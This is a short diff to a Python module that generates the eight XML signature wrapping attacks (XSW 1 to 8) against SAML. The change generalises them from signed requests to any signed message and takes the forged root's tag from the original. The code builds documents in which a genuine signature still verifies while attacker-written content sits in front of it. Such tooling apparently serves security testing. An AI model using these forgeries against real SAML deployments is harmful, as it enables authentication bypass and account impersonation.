@@ -1,6 +1,6 @@
-"""The eight shapes of signature wrapping (XSW 1 to 8), for a signed request instead of a response.
+"""The eight shapes of signature wrapping (XSW 1 to 8), for any signed message: requests, logouts, metadata.
 
-Each takes a request that was signed and one that an attacker wrote, and puts both into one document in which the
+Each takes a message that was signed and one that an attacker wrote, and puts both into one document in which the
 signature still verifies over the first.
 """
 
@@ -43,7 +43,7 @@ def xsw2(signed: str, evil: str) -> object:
 def xsw3(signed: str, evil: str) -> object:
     """The forged one first, the signed one behind it, both in one root."""
     original, forged, _ = _parts(signed, evil)
-    root = etree.Element(f"{{{SAMLP}}}AuthnRequest", dict(original.attrib), nsmap=original.nsmap)
+    root = etree.Element(original.tag, dict(original.attrib), nsmap=original.nsmap)
     root.set("ID", "_root")
     root.append(deepcopy(original[0]))
     root.append(forged)
